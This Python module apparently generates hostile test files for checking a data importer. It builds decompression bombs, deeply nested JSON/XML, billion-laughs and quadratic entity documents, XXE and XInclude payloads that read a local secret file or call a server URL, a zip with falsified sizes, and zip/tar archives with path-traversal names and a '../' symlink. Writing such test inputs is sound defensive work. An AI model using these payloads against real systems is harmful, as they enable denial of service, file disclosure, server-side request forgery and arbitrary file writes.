"""Small files that ask for a lot: archives that unpack to far more, deep nesting, entities, one endless value. Built in pieces.

What is equal is packed once and repeated: each packed form may be a row of streams, so that a file of a few kilobytes
unpacks to hundreds of megabytes and costs nothing to make.
"""

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Final

import pyarrow as pa

_MIB: Final = 1 << 20
_LEVELS: Final = 3_000
_PACKERS: Final[Mapping[str, Callable[[bytes], bytes]]] = {
    ".gz": lambda content: gzip.compress(content, 9),
    ".bz2": bz2.compress,
    ".xz": lambda content: lzma.compress(content, preset=1),
    ".zst": lambda content: pa.compress(content, codec="zstd", asbytes=True),
}
_SHEET: Final = "xl/worksheets/sheet1.xml"
_WORKBOOK: Final[Mapping[str, str]] = {
    "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
    "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>",
    "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    '<sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>',
}
_ROWS: Final = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>text</t></is></c></row>'
    '<row r="2"><c r="A2" t="inlineStr"><is><t>{value}</t></is></c></row></sheetData></worksheet>'
)


@dataclass(frozen=True, slots=True)
class PackedFile:
    """A file by its name, and what is in it."""

    name: str
    technique: str
    content: bytes
    is_readable: bool = False
    """True when a target may read its rows, as long as it does nothing else."""


def pack_equal(head: bytes, line: bytes, size_bytes: int, suffix: str) -> bytes:
    """The head and then equal lines of so many bytes together, packed; a stream each for what is equal."""
    pack = _PACKERS[suffix]
    # The longer the piece, the better it is packed; two of them need no long one, and take longer.
    piece = line * max((_MIB // 8 if suffix in (".bz2", ".xz") else _MIB) // len(line), 1)
    return pack(head) + pack(piece) * max(size_bytes // len(piece), 1)


def build_rows(size_bytes: int, line: bytes) -> list[PackedFile]:
    """Equal rows in each packed form."""
    return [PackedFile(f"rows.csv{suffix}", "decompression", pack_equal(b"a\n", line, size_bytes, suffix)) for suffix in _PACKERS]


def build_endless(size_bytes: int) -> list[PackedFile]:
    """One value, name or row that does not end, in each format of texts; and an archive in an archive."""
    endless = {
        "field.csv.gz": (b'a\n"', b"x"),
        "header.csv.gz": (b"", b"x"),
        "columns.csv.gz": (b"", b"x,"),
        "line.jsonl.gz": (b'{"a":"', b"x"),
        "value.json.gz": (b'[{"a":"', b"x"),
        "text.xml.gz": (b"<r><row><a>", b"x"),
    }
    packed = {name: pack_equal(head, line, size_bytes, ".gz") for name, (head, line) in endless.items()}
    bombs = [PackedFile(name, "endless value", content) for name, content in packed.items()]
    inner = pack_equal(b"a\n", b"0\n", size_bytes, ".gz")
    return [*bombs, PackedFile("nested.csv.gz", "archive in an archive", gzip.compress(inner))]


def build_slow(size_bytes: int) -> list[PackedFile]:
    """A tag that does not end, which parsers read again and again, and an archive of many parts."""
    many = build_workbook({f"xl/media/{number}": "" for number in range(10_001)})
    tag = pack_equal(b"<r><row ", b"x", size_bytes, ".gz")
    return [PackedFile("tag.xml.gz", "endless value", tag), PackedFile("many.xlsx", "too many parts", many)]


def build_nesting() -> list[PackedFile]:
    """Thousands of levels."""
    deep = b'{"a":' * _LEVELS + b"1" + b"}" * _LEVELS
    lists = b'{"a":' + b"[" * _LEVELS + b"]" * _LEVELS + b"}"
    elements = b"<r><row>" + b"<a>" * _LEVELS + b"</a>" * _LEVELS + b"</row></r>"
    files = {
        "deep.json": b"[" + deep + b"]",
        "deep.jsonl": deep + b"\n",
        "lists.jsonl": lists + b"\n",
        "lists.json": b"[" + lists + b"]",
        "deep.xml": elements,
        "open.json": b"[" * 100_000,
    }
    return [PackedFile(name, "deep nesting", content) for name, content in files.items()]


def build_entities(secret: Path, url: str, canary: str) -> list[PackedFile]:
    """Document types: entities that multiply, that read a file, and that ask a server."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    types = {
        "laughs": (f'<!DOCTYPE r [<!ENTITY l0 "lol">{laughs}]>', "&l9;"),
        "quadratic": (f'<!DOCTYPE r [<!ENTITY q "{"q" * 10_000}">]>', "&q;" * 1_000),
        "inner": (f'<!DOCTYPE r [<!ENTITY i "{canary}">]>', "&i;"),
        "file": (f'<!DOCTYPE r [<!ENTITY f SYSTEM "{secret.as_uri()}">]>', "&f;"),
        "server": (f'<!DOCTYPE r [<!ENTITY s SYSTEM "{url}/entity">]>', "&s;"),
        "parameter": (f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{url}/parameter"> %p;]>', "x"),
        "external": (f'<!DOCTYPE r SYSTEM "{url}/dtd">', "x"),
        "include": ("", f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{secret.as_uri()}"/>'),
        "style": (f'<?xml-stylesheet href="{url}/style"?><!DOCTYPE r PUBLIC "x" "{url}/public">', "x"),
    }
    bombs = []
    for name, (head, value) in types.items():
        document = f"{head}<r><row><a>{value}</a></row></r>"
        bombs.append(PackedFile(f"{name}.xml", "entities", document.encode()))
        if head:
            bombs.append(PackedFile(f"{name}-wide.xml", "entities", document.encode("utf-16")))
            # A document type that declares no entity is harmless in a workbook, as long as nobody fetches it.
            workbook = build_workbook({_SHEET: head + _ROWS.format(value=value)})
            bombs.append(PackedFile(f"{name}.xlsx", "entities", workbook, is_readable="<!ENTITY" not in head))
    return bombs


def build_archives(size_bytes: int, targets: Sequence[str]) -> list[PackedFile]:
    """Workbooks that unpack to more than they say or may, or hold such names, and archives that nobody should open."""
    sheet = _ROWS.format(value="x" * size_bytes)
    big = build_workbook({_SHEET: sheet})
    lying = big.replace(struct.pack("<I", len(sheet)), struct.pack("<I", len(_ROWS)))
    slip = build_workbook({_SHEET: _ROWS.format(value="slip"), **dict.fromkeys(targets, "slipped")})
    tar = _build_tar(targets)
    bombs = [
        PackedFile("big.xlsx", "decompression", big),
        PackedFile("lying.xlsx", "decompression", lying),
        PackedFile("slip.xlsx", "names that climb", slip, is_readable=True),
    ]
    others = {"slip.zip": slip, "slip.tar": tar, "slip.tar.gz": gzip.compress(tar), "slip.csv.tar": tar, "slip.csv.zip": slip}
    return [*bombs, *(PackedFile(name, "names that climb", content) for name, content in others.items())]


def build_workbook(parts: Mapping[str, str] | None = None) -> bytes:
    """A workbook of one column and one row, with these parts besides or instead."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in {**_WORKBOOK, _SHEET: _ROWS.format(value="1"), **(parts or {})}.items():
            archive.writestr(name, content)
    return file.getvalue()


def _build_tar(targets: Sequence[str]) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, "../"
        archive.addfile(link)
        for name in ("link/slipped", *targets):
            member = tarfile.TarInfo(name)
            member.size = 4
            archive.addfile(member, io.BytesIO(b"a\n1\n"))
    return file.getvalue()
